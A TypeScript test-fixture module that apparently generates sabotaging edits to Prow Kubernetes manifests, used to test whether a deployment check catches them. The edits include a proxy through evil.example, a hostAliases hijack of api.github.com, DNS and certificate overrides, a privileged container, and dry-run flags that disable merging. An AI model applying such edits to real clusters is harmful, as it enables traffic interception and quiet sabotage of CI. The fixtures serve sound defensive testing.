import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Trick } from '../trick.js';
import { CANDIDATE, type World } from '../world.js';
import { rehearsed } from './images.js';

const PLANK = 'manifests/prow-controller-manager.yaml';
const PLUGIN = 'manifests/refresh.yaml';

/** Prow's own programs, in staging as they are written, of which no canary meets what is new. */
export const RUNNING_TRICKS: readonly Trick[] = [
  variable(
    'proxy',
    'has Prow ask the world by a proxy and its own clusters directly',
    '{ name: HTTPS_PROXY, value: "http://evil.example:3128" }, { name: NO_PROXY, value: "10.0.0.0/8,.svc" }',
  ),
  variable('certificates', 'has Prow trust other certificates', '{ name: SSL_CERT_FILE, value: /etc/more.pem }'),
  pod('host-aliases', 'has GitHub be another address', 'hostAliases: [{ ip: 192.0.2.6, hostnames: [api.github.com] }]'),
  pod('dns', 'asks another server for names', 'dnsPolicy: None\n      dnsConfig: { nameservers: [192.0.2.6] }'),
  pod('node-by-name', 'has Prow on a node by the name that staging has', 'nodeName: host-prow-0'),
  running('privileged', 'lets Prow do anything with its node', (world) => {
    const env = '          env: [';
    world.edit(join(world.head, PLANK), env, `          securityContext: { privileged: true }\n${env}`);
  }),
  running('over-certificates', 'mounts a ConfigMap over the certificates that Prow trusts', (world) => {
    world.write(
      join(world.head, 'manifests/more.yaml'),
      'apiVersion: v1\nkind: ConfigMap\nmetadata: { name: more, namespace: prow }\ndata: { a: b }\n',
    );
    world.edit(join(world.head, PLANK), 'volumes: [', 'volumes: [{ name: more, configMap: { name: more } }, ');
    world.edit(
      join(world.head, PLANK),
      'volumeMounts: [',
      'volumeMounts: [{ name: more, mountPath: /etc/ssl/certs }, ',
    );
  }),
  flags('hook', 'hears GitHub at another path', '--webhook-path=/other'),
  flags('hook', 'hears one organisation alone', '--github-enabled-org=nobody'),
  flags('hook', 'is deaf to an organisation', '--github-disabled-org=example'),
  flags('hook', 'has every plugin write nothing', '--dry-run=true'),
  flags('deck', 'shows jobs that were hidden', '--show-hidden'),
  flags('sinker', 'has nothing swept', '--dry-run=true'),
  flags('tide', 'has nothing merged', '--dry-run=true'),
];

/** A component of which both sides have a Deployment, and one that comes has arguments. */
function flags(component: string, says: string, flag: string): Trick {
  const [id = ''] = flag.replace(/^--/, '').split('=');
  return running(`${component}-${id}`, `${says}, by a flag of ${component}`, (world) => {
    for (const side of [world.base, world.head]) {
      const plugin = readFileSync(join(side, PLUGIN), 'utf8');
      world.write(join(side, `manifests/${component}.yaml`), plugin.replaceAll('refresh', component));
    }
    const image = `example.org/prow/${component}:${CANDIDATE}\n`;
    world.edit(join(world.head, `manifests/${component}.yaml`), image, `${image}          args: [${flag}]\n`);
  });
}

function variable(id: string, says: string, entries: string): Trick {
  return running(id, says, (world) => world.edit(join(world.head, PLANK), 'env: [', `env: [${entries}, `));
}

function pod(id: string, says: string, fields: string): Trick {
  return running(id, says, (world) => {
    world.edit(join(world.head, PLANK), '      volumes: [', `      ${fields}\n      volumes: [`);
  });
}

function running(id: string, says: string, change: (world: World) => unknown): Trick {
  return rehearsed(`running-${id}`, says, 'not-staged', change);
}
